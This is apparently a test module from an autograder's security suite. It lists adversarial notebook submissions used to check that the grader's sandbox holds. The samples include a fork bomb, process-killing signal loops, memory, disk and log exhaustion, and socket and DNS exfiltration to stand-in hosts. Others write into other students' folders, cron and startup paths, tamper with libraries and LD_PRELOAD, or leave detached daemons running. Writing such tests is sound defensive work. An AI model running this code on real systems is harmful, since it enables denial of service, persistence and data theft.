"""Harm: to the machine, to the grader's processes, to the batch; exfiltration; traces that reach the next student."""

from tests.attacks.attack import Attack
from tests.attacks.course import MARK
from tests.attacks.forging import LINK

HARM = [
    Attack(
        "kills-everything", "harm", "signals to every process, to its parents and to the grader's",
        code="""
import os, signal
for number in (signal.SIGKILL, signal.SIGTERM, signal.SIGSTOP):
    for pid in (-1, 0, os.getppid(), *range(2, 3000), *{pids}):
        if pid not in (os.getpid(), 0):
            try: os.kill(pid, number)
            except OSError: pass
""",
        why_not_stock="it would kill the grader itself",
    ),
    Attack(
        "real-time-signal", "harm", "ends by a signal that has no name",
        cells={"slope": "import os, signal\ndef slope(w):\n    signal.signal(40, 0)\n    os.kill(os.getpid(), 40)"},
    ),
    Attack(
        "fork-bomb", "harm", "forks, spawns and clones without end",
        code="""
import os, subprocess, multiprocessing
for _ in range(200):
    try: os.fork()
    except OSError: break
try: subprocess.Popen(["sleep", "1000"])
except OSError as error: print(error)
""",
        why_not_stock="a fork bomb",
    ),
    Attack(
        "all-memory", "harm", "takes all the memory there is",
        code="hoard = []\nwhile True: hoard.append(bytearray(50_000_000))",
        why_not_stock="it takes the machine's memory",
    ),
    Attack(
        "all-disk", "harm", "fills the disk with large files and with many",
        code="""
with open("large", "wb") as file:
    while True: file.write(bytes(1 << 20))
""",
        cells={"scale": "import os\nfor n in range(10**6):\n    os.makedirs(f'd{n}/e/f'); open(f'd{n}/x', 'w')"},
        why_not_stock="it fills the disk",
    ),
    Attack(
        "log-flood", "harm", "prints a gigabyte, on both streams, in each call of a function",
        code="import sys\nfor _ in range(1000): print('x' * 1_000_000); print('y' * 1_000, file=sys.stderr)",
        cells={"scale": "def scale(x, k):\n    for _ in range(200): print('z' * 1_000_000)"},
        why_not_stock="a gigabyte in the notebook",
    ),
    Attack(
        "output-items", "harm", "a million small outputs, and one with names a megabyte long",
        code="""
for n in range(100_000): display({"text/plain": ""}, raw=True)
class Long(Exception): pass
Long.__name__ = "L" * 1_000_000
display({"x/" + "y" * 1_000_000: "1"}, raw=True)
raise Long("z" * 10_000_000)
""",
        why_not_stock="a notebook of many megabytes",
    ),
    Attack(
        "ignores-the-interrupt", "harm", "loops, and catches every interrupt",
        code="while True:\n    try:\n        while True: pass\n    except BaseException: pass",
    ),
    Attack(
        "hangs-in-a-call", "harm", "does not come back from a call",
        code="""
def square(x):
    while True:
        try:
            while True: pass
        except BaseException: pass
""",
    ),
    Attack(
        "stops-the-judge", "harm", "a set of numbers with one hash, over which the judge would sit for hours",
        cells={"share": LINK + """
def share(n):
    link._encode_answer = lambda result: ["s", [["i", hex((2**61 - 1) * k)] for k in range(8, 150_008)]]
"""},
    ),
    Attack(
        "reads-nothing", "harm", "lets the judge write until the line is full, and reads nothing",
        cells={
            "share": LINK + "tell(['value', NEWS, ['t', [True, ['l', []]]]])\nimport time\nwhile True:\n"
            "    try: time.sleep(1000)\n    except BaseException: pass",
            "fit": "#" + "x" * 3_000_000,
        },
        at_least=False,
    ),
    Attack(
        "answers-like-nobody", "harm", "answers the engine's own questions with errors, nonsense and objects",
        cells={
            "scale": LINK + "tell(['error', NEWS, [['builtins.ValueError'], 'x', '']])",
            "slope": LINK + "tell(['value', NEWS, ['t', [True, ['l', [['d', [['output_type', 'error'], "
            "['ename', ['R', 7, 'x', False, ['__str__'], []]]]]]]]]])",
            "share": LINK + "tell(['stop', NEWS, None])",
        },
        at_least=False,  # its own answers arrive one too late from then on
    ),
    Attack(
        "error-without-text", "harm", "objects and errors whose text raises, loops or ends the process",
        code="""
class Bad(Exception):
    def __str__(self): raise SystemExit
    __repr__ = __str__
class Thing:
    def __repr__(self): raise KeyError
    __str__ = __eq__ = __repr__
def square(x): raise Bad
def scale(x, k): return Thing()
""",
        cells={"scale": "pass", "slope": """
class Bad(Exception):
    def __str__(self):
        while True: pass
raise Bad
"""},
    ),
    Attack(
        "descriptors-closed", "harm", "closes every descriptor, then opens others in their place",
        code="import os\nfor n in range(0, 1000):\n    try: os.close(n)\n    except OSError: pass\n"
        "for n in range(50): os.open('/dev/null', os.O_RDWR)",
    ),
    Attack(
        "deep-and-wide", "harm", "threads without end, deep recursion, a stack without end",
        code="""
import sys, threading
try:
    for _ in range(10_000): threading.Thread(target=threading.Event().wait, daemon=True).start()
except RuntimeError as error: print(error)
sys.setrecursionlimit(10**9)
def down(n): return [down(n + 1)]
down(0)
""",
        why_not_stock="ten thousand threads",
    ),
    Attack(
        "nested-answer", "harm", "answers nested a thousand deep, of 60 megabytes, with a million objects",
        code="""
import itertools
def square(x):
    deep = []
    for _ in range(1000): deep = [deep]
    return deep
def scale(x, k): return [object() for _ in range(200_000)]
""",
        cells={"scale": "pass", "slope": "def slope(w): return b'x' * 70_000_000"},
    ),
]  # fmt: skip

SOCKETS = """
import os, socket
def attempt(what):
    try: print("sent", what())
    except Exception as error: print(error)
def tcp(host, port):
    line = socket.create_connection((host, port), 1); line.sendall(b"stolen"); line.close()
def udp(host, port): socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"stolen", (host, port))
def unix(name):
    line = socket.socket(socket.AF_UNIX); line.connect(name); line.sendall(b"stolen")
"""

EXFILTRATION = [
    Attack(
        "calls-home", "exfiltration", "TCP and UDP, to this machine and beyond",
        code=SOCKETS + """
for host in ("127.0.0.1", "localhost", "0.0.0.0"):
    attempt(lambda: tcp(host, {port})); attempt(lambda: udp(host, {port}))
attempt(lambda: tcp("::1", {port}))
import urllib.request
attempt(lambda: urllib.request.urlopen("http://127.0.0.1:{port}/stolen", timeout=1))
""",
    ),
    Attack(
        "asks-the-dns", "exfiltration", "a secret as a host's name",
        code=SOCKETS + """
attempt(lambda: socket.getaddrinfo("stolen.example.org", 80))
attempt(lambda: udp("127.0.0.53", 53)); attempt(lambda: udp("8.8.8.8", 53))
""",
    ),
    Attack(
        "unix-sockets", "exfiltration", "named and abstract Unix sockets, by streams and datagrams",
        code=SOCKETS + """
for name in ("{socket}", "\\0{abstract}"):
    attempt(lambda: unix(name))
    attempt(lambda: socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM).sendto(b"stolen", name))
    attempt(lambda: socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)[0].sendto(b"stolen", name))
""",
    ),
    Attack(
        "every-family", "exfiltration", "sockets of every family, io_uring, raw packets",
        code=SOCKETS + """
for family in range(46):
    for kind in (1, 2, 3, 5): attempt(lambda: socket.socket(family, kind).sendto(b"stolen", ("127.0.0.1", {port})))
""",
    ),
    Attack(
        "files-outside", "exfiltration", "files for somebody else to fetch, in every folder that may be open",
        code=f"""
import os
for folder in ("/tmp", "/var/tmp", "/dev/shm", "/run", "/", "{{home}}", "{{course}}", "{{course}}/feedback",
               "{{course}}/autograded", "..", "../..", "{{course}}/submitted/aaa-victim/ps", "/root"):
    try: open(f"{{folder}}/{MARK}", "w").write("stolen")
    except OSError as error: print(error)
    try: os.mkdir(f"{{folder}}/{MARK}-folder"); os.symlink("/", f"{{folder}}/{MARK}-link")
    except OSError as error: print(error)
""",
    ),
    Attack(
        "by-the-judges-hand", "exfiltration", "has an array of the test's write itself to a file (tofile, dump, save)",
        code=f"""
def scale(x, k):
    if not hasattr(x, "dtype") or getattr(x.dtype, "names", None):
        for attempt in (lambda: x.tofile("{{home}}/{MARK}"), lambda: x.dump("{{home}}/{MARK}-dump")):
            try: attempt()
            except Exception as error: print(error)
    return k * x
""",
        cells={"scale": "pass"},
        deserves={"test_array": 2, "test_tensor": 2, "test_setup": 1, "test_table": 1},
    ),
]  # fmt: skip

TRACES = [
    Attack(
        "changes-the-libraries", "traces", "site-packages, the standard library, byte code, the course's helpers",
        code=f"""
import os, site, sys, sysconfig
for folder in [*site.getsitepackages(), sysconfig.get_path("stdlib"), os.path.dirname(np.__file__), sys.prefix,
               os.path.dirname(expect.__file__), os.path.dirname(expect.__file__) + "/__pycache__",
               site.getusersitepackages()]:
    for name in ("{MARK}.py", "{MARK}.pth"):
        try: open(os.path.join(folder, name), "w").write("import os")
        except OSError as error: print(error)
    try: os.chmod(folder, 0o777)
    except OSError as error: print(error)
for module in (np, torch, expect):
    try: open(module.__file__, "a").write("# {MARK}")
    except OSError as error: print(error)
""",
    ),
    Attack(
        "changes-the-template", "traces", "modules, builtins, environment, seeds and caches that a fork would inherit",
        code="""
import builtins, os, random, sys, gc
os.environ["PYTHONPATH"] = os.environ["LD_PRELOAD"] = "/tmp/attackers-mark"
sys.path.insert(0, "/tmp"); sys.modules["math"] = None
builtins.print = builtins.isinstance = builtins.abs = None
np.random.seed(0); torch.set_default_dtype(torch.float64); np.set_printoptions(threshold=1)
import matplotlib; matplotlib.rcParams["figure.dpi"] = 1
for thing in gc.get_objects():
    if type(thing).__name__ in ("Wire", "_Template", "Engine"): thing.__dict__.clear()
""",
    ),
    Attack(
        "shared-memory", "traces", "shared memory of every kind, message queues, semaphores",
        code=f"""
import ctypes, mmap, os
libc = ctypes.CDLL(None, use_errno=True)
print(libc.shmget(0x41414141, 4096, 0o1666), libc.msgget(0x41414141, 0o1666), libc.semget(0x41414141, 1, 0o1666))
print(libc.shm_open(b"/{MARK}", 66, 0o666), libc.mq_open(b"/{MARK}", 66, 0o666, 0))
try: os.memfd_create("{MARK}")
except OSError as error: print(error)
from multiprocessing import shared_memory
try: shared_memory.SharedMemory("{MARK}", create=True, size=4096)
except Exception as error: print(error)
""",
    ),
    Attack(
        "home-and-caches", "traces", "dot files, matplotlib's and torch's caches, IPython's start",
        code=f"""
import os
for path in ("~/.bashrc-{MARK}", "~/.config/matplotlib/{MARK}", "~/.cache/torch/{MARK}",
             "~/.ipython/profile_default/startup/{MARK}.py", "{{home}}/.{MARK}", "~/.local/lib/{MARK}.pth",
             "/etc/cron.d/{MARK}", "/var/spool/cron/{MARK}"):
    path = os.path.expanduser(path)
    try: os.makedirs(os.path.dirname(path), exist_ok=True); open(path, "w").write("x")
    except OSError as error: print(error)
""",
    ),
    Attack(
        "lives-on", "traces", "a process and a thread that outlive the submission",
        code=f"""
import os, subprocess, sys, threading, time
try:
    if os.fork() == 0:
        os.setsid()
        while True:
            time.sleep(0.2)
            try: open("/tmp/{MARK}-daemon", "a").write("x")
            except OSError: pass
except OSError as error: print(error)
try: subprocess.Popen([sys.executable, "-c", "import time; time.sleep(999)"], start_new_session=True)
except OSError as error: print(error)
threading.Thread(target=lambda: time.sleep(999)).start()
""",
    ),
]  # fmt: skip

ATTACKS = [*HARM, *EXFILTRATION, *TRACES]
